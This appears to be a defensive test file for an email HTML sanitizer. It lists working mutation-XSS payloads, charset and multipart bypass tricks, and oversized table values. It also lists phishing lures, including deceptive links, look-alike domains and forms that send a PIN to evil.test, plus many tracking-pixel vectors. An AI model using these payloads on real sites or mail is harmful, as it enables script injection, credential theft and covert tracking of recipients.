"""HTML that changes its meaning when it is parsed again, and HTML that tells lies to a reader."""

from tests.hostile.cases import (
    WORDS,
    Build,
    Case,
    html_mail,
    html_part,
    multipart,
    part,
    table,
    text_part,
    top,
)

RUN = "<img src=x onerror=alert(1)>"
PIXEL = "http://tracker.test/p.gif"

# Foreign content, raw text and tables: where cleaners and browsers have disagreed.
MUTATIONS = [
    f"<svg></p><style><a id='</style>{RUN}'>",
    f"<svg><p><style><a title='</style>{RUN}'>",
    f"<math></p><style><!--</style>{RUN}--></style>",
    f"<math><mtext><option><FAKEFAKE><option></option><mglyph>"
    f"<svg><mtext><style><a title='</style>{RUN}'>",
    f"<math><mtext><table><mglyph><style><![CDATA[</style>{RUN}]]></mglyph></table></mtext></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{RUN}'>",
    f"<math><annotation-xml encoding='text/html'><style><a title='</style>{RUN}'></annotation-xml>",
    f"<svg><foreignObject><math><mi><mglyph><style><!--</style><img title='--&gt;{RUN}'>",
    f"<svg><desc><noscript><p title='</noscript>{RUN}'></desc></svg>",
    f"<svg><title><style><a title='</style>{RUN}'></title></svg>",
    f"<svg><![CDATA[><image xlink:href='x' onerror=alert(1)>]]>{RUN}",
    f"<noscript><style></noscript>{RUN}</style>",
    f"<noscript><textarea></noscript>{RUN}</textarea>",
    f"<select><template><style><a title='</style>{RUN}'></template></select>",
    f"<select><math><option><style></option></select>{RUN}</style>",
    f"<table><caption><svg><title></table></title><style><a title='</style>{RUN}'>",
    f"<template><svg><style><a title='</style></template>{RUN}'>",
    f"<xmp><svg><b title='</xmp>{RUN}'></xmp>",
    f"<noembed><svg><b title='</noembed>{RUN}'></noembed>",
    f"<noframes><b title='</noframes>{RUN}'></noframes>",
    f"<listing>&lt;img onerror=alert(1) src=x&gt;</listing>{RUN}",
    f"<plaintext>{RUN}</plaintext>{RUN}",
    f"<!--!>{RUN}-->",
    f"<!--- --!>{RUN}",
    f"<!-->{RUN}<!-- -->",
    f"<!--><!---->{RUN}<!---->",
    f"<!-- <!-- -->{RUN}-->",
    f"<? foo='>{RUN}'>",
    f"<! foo='>{RUN}'>",
    f"</ foo='>{RUN}'>",
    f"<% foo>{RUN}%>",
    f"<![if !mso]>{RUN}<![endif]>",
    f"<!--[if mso]>{RUN}<![endif]-->",
    f"<!--[if !mso]><!-->{RUN}<!--<![endif]-->",
    f'<a title="`{RUN}`">x</a>',
    f"<img alt=``{RUN}>",
    "<img alt='`onerror=alert(1) src=cid:x'>",
    "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    '<a href="https://x.test/&quot; onclick=&quot;alert(1)">x</a>',
    "<a href='https://x.test/&#39; onclick=&#39;alert(1)'>x</a>",
    '<p style="font-family:&quot;x&quot; onclick=alert(1)&quot;">x</p>',
    "<p style='font-family:\"</style><script>alert(1)</script>\"'>x</p>",
    "<font color='\"><script>alert(1)</script>'>x</font>",
    "<table width='1\" onmouseover=alert(1) x=\"'><td>x</table>",
    "<img width='1 onerror=alert(1)' height='1/onerror=alert(1)' src=cid:x>",
    "<p dir='ltr\" onclick=alert(1)' lang='x\" onclick=alert(1)'>x</p>",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "<a/href=javascript:alert(1)/>x</a>",
    "<a href=javascript:alert(1) href=https://x.test>x</a>",
    "<a href=https://x.test href=javascript:alert(1)>x</a>",
    "<A HREF=https://x.test STYLE=x:expression(alert(1)) ONCLICK=alert(1)>x</A>",
    "<ımg src=x onerror=alert(1)><scrıpt>alert(1)</scrıpt>",
    "<ſcript>alert(1)</ſcript><img src=x onerror=alert(1)>",
    "<script\u2028>alert(1)</script><script\u00a0>alert(1)</script>",
    "<isindex x=javascript: onmouseover=alert(1) label=x>",
    "<image src=x onerror=alert(1)><image xlink:href=x onerror=alert(1)>",
    "<command onclick=alert(1)><menuitem onclick=alert(1)>x",
    "<rtc><ruby><rt><script>alert(1)</script></rt></ruby></rtc>",
    "<object><param name=x value=javascript:alert(1)><embed src=x></object>",
    "<body><body onload=alert(1) style='x:expression(alert(1))'><html onclick=alert(1)>x",
    "<head><base href=javascript:alert(1)//><link rel=stylesheet href=x.css></head>",
    "<p is=x-evil xmlns:x=evil x:onclick=alert(1) on=alert(1) onx=alert(1)>x</p>",
    "<shadow-root><slot></slot></shadow-root><div><template shadowrootmode=open><script>alert(1)"
    "</script></template></div>",
    "<svg><use xlink:href='data:image/svg+xml;base64,PHN2Zz4=#x'/><use href=//evil.test/x.svg#x />",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><script href=data:,alert(1) /><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><handler type=text/javascript>alert(1)</handler><discard onbegin=alert(1)></svg>",
    "<math href=javascript:alert(1)>x</math><maction actiontype=statusline xlink:href="
    "javascript:alert(1)>x</maction>",
]

# What is shown is not what is: for links, pictures, forms and styles.
LIES = [
    "<a href='http://evil.test/'>https://www.bank.test/login</a>",
    "<a href='http://evil.test/'><img src=cid:button alt='www.bank.test'></a>",
    "<a href='https://bank.test.evil.test/'>bank.test</a>",
    "<a href='https://bank.test:pw@evil.test/'>bank.test</a>",
    "<a href='https://evil.test/#https://bank.test'>bank.test</a>",
    "<a href='https://evil.test\\@bank.test/'>bank.test</a>",
    "<a href='https:evil.test'>x</a><a href='https:/evil.test'>x</a>"
    "<a href='https:\\\\evil.test'>x</a>",
    "<a href='http://3232235777/'>bank.test</a><a href='http://0x7f000001/'>bank.test</a>",
    "<a href='https://xn--bnk-6na.test/'>bänk.test</a>",
    "<a href='https://bаnk.test/'>bank.test</a>",
    "<a href='https://bank.test\u2044login.evil.test/'>bank.test</a>",
    "<a href='https://bank.test%E2%80%AE/moc.live'>x</a>",
    "<a href='https://x.test/\u202egnp.exe'>x</a>",
    "<a href='https://www.google.test/url?q=http://evil.test'>bank.test</a>",
    "<a href='https://x.test/" + "a" * 9000 + "'>x</a>",
    "<a href='mailto:a@b.test?cc=thief@evil.test&bcc=t@evil.test&body=x'>x</a>",
    "<a href='tel:+49%3Bphone-context=evil.test'>x</a><a href='sms:1'>x</a>",
    "<a href='https://x.test' download=a.exe target=_self rel=opener>x</a>",
    "<form action='http://evil.test/'><input name=pin><button>Go</button></form>",
    "<form action='mailto:thief@evil.test' enctype=text/plain><textarea name=x></textarea></form>",
    "<input form=f formaction=http://evil.test type=submit><button form=f>x</button>",
    "<div style='position:fixed;inset:0;background:white;z-index:9'>Your session ended</div>",
    "<div style='margin-top:-2000px;height:4000px;opacity:0'><a href='http://evil.test'>x</a></div>",
    "<p style='color:#fff;font-size:0;display:none'>hidden words for a filter</p>",
    "<p style='direction:rtl;unicode-bidi:bidi-override'>tset.knab</p>",
    "<bdo dir=rtl>tset.knab</bdo><p dir=rtl>tset.knab</p>",
    "<meta http-equiv=refresh content='0; url=http://evil.test/'>",
    "<meta http-equiv='Link' content='<http://evil.test/x.css>; rel=stylesheet'>",
    "<meta name=referrer content=unsafe-url><meta name=viewport content='width=1'>",
    "<base href='http://evil.test/' target=_top><a href='login'>x</a>",
    f"<link rel='preload' as=image href={PIXEL}><link rel=preconnect href=//tracker.test>",
    f"<link rel='shortcut icon' href={PIXEL}><link rel=manifest href={PIXEL}>",
    f"<img src={PIXEL} width=1 height=1 style='display:none' alt=''>",
    f"<img srcset='{PIXEL} 2x' sizes=100vw><img data-src={PIXEL} lazy-src={PIXEL}>",
    f"<picture><source srcset={PIXEL} media='(min-width:1px)'><img src={PIXEL}></picture>",
    f"<video poster={PIXEL}><source src={PIXEL}><track src={PIXEL} default></video>",
    f"<table background={PIXEL}><tbody background={PIXEL}><th background={PIXEL}>x</table>",
    f"<td style='background-image:url({PIXEL})'>x</td>",
    f"<p style='background-image:image(\"{PIXEL}\")'>x</p>"
    f"<p style='background:-moz-image-rect(url({PIXEL}),0,0,0,0)'>x</p>",
    f"<ul style='list-style-image:url({PIXEL})'><li>x</ul>",
    f"<p style='shape-outside:url({PIXEL});clip-path:url({PIXEL}#x)'>x</p>"
    f"<p style='offset-path:url({PIXEL})'>x</p>",
    f"<style>@media print{{body{{background:url({PIXEL})}}}}</style>",
    f"<style>@import'{PIXEL}';@font-face{{font-family:a;src:url({PIXEL})}}</style>",
    f"<style>a[href^='https://x']{{background:url({PIXEL}?x)}}</style>",
    f"<style>:root{{--a:url({PIXEL})}}p{{background:var(--a)}}</style>",
    f"<style>@namespace url({PIXEL});@charset 'utf-7';</style>",
    f"<svg><filter><feImage href={PIXEL} /></filter><image href={PIXEL} /></svg>",
    f"<svg><style>@import url({PIXEL})</style><font-face-uri xlink:href={PIXEL} /></svg>",
    f"<math><mglyph src={PIXEL} /><semantics><annotation-xml src={PIXEL}></semantics></math>",
    f"<!--[if gte mso 9]><v:background><v:fill src={PIXEL} /></v:background><![endif]-->",
    f"<v:image src={PIXEL} /><o:OLEObject data={PIXEL}></o:OLEObject>",
    f"<bgsound src={PIXEL}><embed src={PIXEL}><object data={PIXEL} codebase={PIXEL}></object>",
    f"<img longdesc={PIXEL} usemap={PIXEL} src=cid:x><blockquote cite={PIXEL}>x</blockquote>",
    f"<ins cite={PIXEL}>x</ins><del cite={PIXEL}>x</del><q cite={PIXEL}>x</q>",
    f"<a href=https://x.test ping={PIXEL} attributionsrc={PIXEL}>x</a>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{PIXEL}"]}}]}}</script>',
    f"<portal src={PIXEL}></portal><fencedframe src={PIXEL}></fencedframe>",
    "<img src='data:text/html,<script>alert(1)</script>'><img src='data:image/png;base64,xx'>",
    "<a href='data:application/octet-stream;base64,TVo='>report.pdf</a>",
    "<a href='data:image/svg+xml,<svg onload=alert(1)>'>x</a><a href='data:,x'>x</a>",
    "<img src='cid:x' onload=alert(1)><img src='CID:x'><img src='cid: x'><img src=cid:>",
    "<img src=cid:x/../../../api/v1/sessions/><img src='cid:x?y#z'><img src='cid:%00'>",
]

COLSPANS = [
    "<table><tr><td colspan=1000000>x</td></tr></table>",
    "<table><tr><td rowspan=65534>x</td></tr></table>" * 50,
    "<table><col span=1000000><colgroup span=1000000><tr><td>x</table>",
    "<table border=99999 cellpadding=99999 cellspacing=99999 width=99999999><td>x</table>",
    "<ol start=2147483648><li value=99999999999999>x</ol>",
    "<font size=9999999>x</font><hr size=9999999 width=9999999>",
    "<img src=cid:x width=999999999 height=999999999 hspace=99999999 vspace=99999999>",
]


def _with_words(html: str) -> Build:
    return lambda: html_mail(f"<p>{WORDS}</p>{html}")


def _rows(samples: list[str]) -> list[tuple[str, Build]]:
    return [(f"{n} {one[:40]!r}", _with_words(one)) for n, one in enumerate(samples)]


def _html_as(charset: str, declared: bytes, start: bytes = b"") -> bytes:
    content = start + f"<p>{WORDS}</p><script>alert(1)</script>{RUN}".encode(charset)
    return top() + part(content, b"Content-Type: text/html; charset=" + declared)


# What a browser would guess from the bytes, against what the mail says.
CHARSETS: list[tuple[str, Build]] = [
    ("utf-16 with a mark, said utf-8", lambda: _html_as("utf-16", b"utf-8")),
    ("utf-16-le without a mark, said so", lambda: _html_as("utf-16-le", b"utf-16le")),
    ("utf-32", lambda: _html_as("utf-32", b"utf-32")),
    ("utf-7", lambda: _html_as("utf-7", b"utf-7")),
    ("utf-7, said twice", lambda: _html_as("utf-7", b"utf-8; charset=utf-7")),
    ("utf-8, said shift_jis", lambda: _html_as("utf-8", b"shift_jis")),
    ("utf-8, said iso-2022-jp", lambda: _html_as("utf-8", b"iso-2022-jp", b"\x1b(J")),
    ("utf-8, said hz", lambda: _html_as("utf-8", b"hz-gb-2312")),
    ("utf-8, said big5 after half a letter", lambda: _html_as("utf-8", b"big5", b"\x81")),
    ("utf-8, said us-ascii", lambda: _html_as("utf-8", b"us-ascii", b"\xbc")),
    ("utf-8, said x-user-defined", lambda: _html_as("utf-8", b"x-user-defined")),
    ("utf-8, said replacement", lambda: _html_as("utf-8", b"replacement")),
    ("utf-8, said rot13", lambda: _html_as("utf-8", b"rot13")),
    ("utf-8, said base64", lambda: _html_as("utf-8", b"base64")),
    ("utf-8, said idna", lambda: _html_as("utf-8", b"idna")),
    ("utf-8, said nothing", lambda: _html_as("utf-8", b'""')),
    ("utf-8, said in a star", lambda: _html_as("utf-8", b"x; charset*=utf-8''utf-7")),
    ("overlong utf-8", lambda: _html_as("utf-8", b"utf-8", b"\xc0\xbcscript\xc0\xbealert(1)")),
    ("NUL between letters", lambda: _html_as("utf-8", b"utf-8", b"<scr\0ipt>alert(1)</script>")),
]


def _alternatives(kind: bytes) -> Build:
    other = part(f"<p>{WORDS}</p>{RUN}<script>x</script>".encode(), b"Content-Type: " + kind)
    return lambda: top() + multipart((text_part(), other), b"alternative")


PARTS: list[tuple[str, Build]] = [
    ("AMP", _alternatives(b"text/x-amp-html; charset=utf-8")),
    ("watch", _alternatives(b"text/watch-html")),
    ("enriched", _alternatives(b"text/enriched")),
    ("richtext", _alternatives(b"text/richtext")),
    ("calendar", _alternatives(b"text/calendar; method=REQUEST")),
    ("xml", _alternatives(b"text/xml")),
    ("svg", _alternatives(b"image/svg+xml")),
    ("xhtml", _alternatives(b"application/xhtml+xml")),
    ("html in two parts", lambda: _two_parts()),
    ("html beside html", lambda: top() + multipart((html_part(RUN), html_part(WORDS)), b"mixed")),
    ("html in plain", lambda: top() + multipart((text_part(RUN + WORDS),), b"alternative")),
]


def _two_parts() -> bytes:
    """Joined one below the other, they must not become one tag."""
    halves = (html_part(f"<p>{WORDS}</p><img title='"), html_part(f"'>{RUN}<script>"))
    return top() + multipart(halves, b"mixed")


CASES: list[Case] = [
    *table("html scripts", "any", _rows(MUTATIONS), prefix="mutation ", words=WORDS),
    *table("html remote", "any", _rows(LIES), prefix="lie ", words=WORDS),
    *table("html heavy", "any", _rows(COLSPANS), prefix="wide ", words=WORDS),
    *table("html scripts", "any", CHARSETS, prefix="charset "),
    *table("html scripts", "any", PARTS, prefix="other part: "),
]
